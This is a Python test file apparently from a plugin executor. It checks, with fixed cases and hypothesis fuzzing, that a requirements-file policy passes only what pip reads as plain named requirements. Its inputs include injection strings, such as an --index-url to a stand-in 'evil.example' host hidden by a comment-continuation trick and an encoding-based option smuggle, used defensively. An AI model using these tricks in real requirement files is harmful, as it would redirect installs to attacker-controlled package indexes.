"""The requirements policy against pip's own reading of the file.

Every file the policy accepts is, for pip (``parse_requirements`` with a ``PipSession``, then
``install_req_from_parsed_requirement`` → ``install_req_from_line``), only named
requirements from the index: no local path, no URL, no option line, no option on a
requirement but ``--hash``. The lines the policy refuses for pip's sake are ones pip reads
as a path, a URL, an option or not at all. pip here is the one of the test virtualenv;
builds run the runtime image's (both read requirement files the same way).
"""

from __future__ import annotations

import tempfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pip._internal.network.session import PipSession
from pip._internal.req.constructors import install_req_from_parsed_requirement
from pip._internal.req.req_file import (
    ParsedLine,
    RequirementsFileParser,
    build_parser,
    get_line_parser,
    parse_requirements,
)
from pip._internal.req.req_install import InstallRequirement
from pip._internal.utils.filetypes import ARCHIVE_EXTENSIONS

from executor.errors import PluginRejected
from executor.intake.requirements import ARCHIVE_SUFFIXES, check_requirements
from tests.unit.test_requirements_policy import (
    ACCEPTED,
    ARCHIVE_NAMES,
    LATIN1_SMUGGLE,
    SIX_HASH,
)

# pip's vendored pkg_resources warns when PipSession reads the installed distributions.
pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

# Accepted by the policy and, read pip's way, still only named requirements: a comment
# swallows the line a trailing backslash joins to it; tabs inside a requirement or before
# its marker; quoted hash values (pip shlex-splits options).
ACCEPTED_AS_PIP_READS = [
    *ACCEPTED,
    "six # pinned below \\\n--index-url https://evil.example/simple",
    "six\t==\t1.16.0",
    "numpy\t; python_version >= '3.10'",
    f"six==1.16.0 --hash='{SIX_HASH}'",
    f"six==1.16.0 --hash {SIX_HASH} \\\n  --hash={SIX_HASH}",
    "# coding: utf-8\nsix",
    "pkg.zip==1.0",
    "zope.interface[test]==5.0",
]


@dataclass
class PipReading:
    """What pip made of a requirements file: every line, and the install requirements."""

    lines: list[ParsedLine]
    requirements: list[InstallRequirement]


def pip_reads(text: str) -> PipReading:
    """pip's reading of ``text`` stored as the build context stores it (UTF-8, no BOM)."""
    with tempfile.TemporaryDirectory() as folder, PipSession() as session:
        path = Path(folder) / "requirements.txt"
        path.write_bytes(text.encode())
        parser = RequirementsFileParser(session, get_line_parser(None))
        lines = list(parser.parse(str(path), constraint=False))
        requirements = [
            install_req_from_parsed_requirement(parsed)
            for parsed in parse_requirements(str(path), session=session)
        ]
    return PipReading(lines, requirements)


def option_changes(line: ParsedLine) -> set[str]:
    """The options a parsed line sets away from pip's defaults."""
    defaults = build_parser().get_default_values()
    defaults.index_url = None  # as pip's line parser sets it
    return {name for name, value in vars(line.opts).items() if value != getattr(defaults, name)}


def assert_named_requirements_only(reading: PipReading) -> None:
    for line in reading.lines:
        assert line.is_requirement and not line.is_editable, vars(line)
        assert option_changes(line) <= {"hashes"}, (line.requirement, option_changes(line))
    assert reading.requirements
    for requirement in reading.requirements:
        assert requirement.req is not None, requirement
        assert requirement.req.url is None and requirement.link is None, requirement
        assert not requirement.editable


def named_for_pip(text: str) -> bool:
    """True when pip reads ``text`` as named requirements only (no error, path, URL or option)."""
    try:
        assert_named_requirements_only(pip_reads(text))
    except Exception:  # pip refused it, or read something else than names
        return False
    return True


@pytest.mark.parametrize("text", ACCEPTED_AS_PIP_READS)
def test_every_accepted_file_is_named_requirements_for_pip(text: str) -> None:
    assert check_requirements(text.encode()) == text
    assert_named_requirements_only(pip_reads(text))


@pytest.mark.parametrize(
    "text",
    [
        f"six==1.16.0\t--hash={SIX_HASH}",
        f"six==1.16.0 \\\n\t--hash={SIX_HASH}",
        *ARCHIVE_NAMES,
        "pkg.tar.xz ; python_version >= '3'",
        "six @ foo",
        "six --hash=md5:d41d8cd98f00b204e9800998ecf8427e",
        "six --hash='sha256:ab",
        LATIN1_SMUGGLE,
    ],
)
def test_lines_refused_for_pips_sake_are_not_named_requirements_for_pip(text: str) -> None:
    """Each is refused (test_requirements_policy has the exact messages) because pip would
    read a path, an option, or fail the build."""
    with pytest.raises(PluginRejected):
        check_requirements(text.encode())
    assert not named_for_pip(text)


def test_the_declared_latin1_encoding_smuggles_an_option_line_past_utf8() -> None:
    lines = pip_reads(LATIN1_SMUGGLE).lines
    assert [line.is_requirement for line in lines] == [True, False]
    assert lines[1].opts.index_url == "https://evil.example/simple"


def test_archive_suffixes_cover_pips() -> None:
    assert set(ARCHIVE_EXTENSIONS) <= set(ARCHIVE_SUFFIXES)


# Pieces pip and the policy could read differently: separators (space, tab, two spaces),
# names pip reads as files, extras, specifiers, markers, hashes (good and bad), trailing
# tokens, comments and continuation lines.
_NAMES = st.sampled_from(
    ["six", "zope.interface", "pkg", "pkg.zip", "pkg.tar.xz", "pkg.tlz", "pkg.whl", "a.tar"]
)
_SEPARATORS = st.sampled_from([" ", "\t", "  ", " \\\n  ", " \\\n\t"])
_EXTRAS = st.sampled_from(["", "[extra]", "[a,b]"])
_SPECIFIERS = st.sampled_from(["", "==1.16.0", " >= 1.0", ">=1,<2", "==1.0.zip", "~=1.2"])
_MARKERS = st.sampled_from(["", "; python_version >= '3'", ';sys_platform=="linux"'])
_OPTIONS = st.sampled_from(
    [
        f"--hash={SIX_HASH}",
        f"--hash {SIX_HASH}",
        f"--hash='{SIX_HASH}'",
        "--hash=md5:d41d8cd98f00b204e9800998ecf8427e",
        "--index-url=https://evil.example/simple",
        "-r other.txt",
        "extra-token",
    ]
)
_COMMENTS = st.sampled_from(["", "  # note", " #", "# note \\"])


@st.composite
def _requirement_lines(draw: st.DrawFn) -> str:
    line = draw(_NAMES) + draw(_EXTRAS) + draw(_SPECIFIERS) + draw(_MARKERS)
    for option in draw(st.lists(_OPTIONS, max_size=2)):
        line += draw(_SEPARATORS) + option
    return line + draw(_COMMENTS)


@settings(
    max_examples=300,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(lines=st.lists(_requirement_lines(), min_size=1, max_size=3))
def test_whatever_the_policy_accepts_pip_reads_as_named_requirements(lines: list[str]) -> None:
    text = "\n".join(lines)
    try:
        check_requirements(text.encode())
    except PluginRejected:
        return
    assert_named_requirements_only(pip_reads(text))
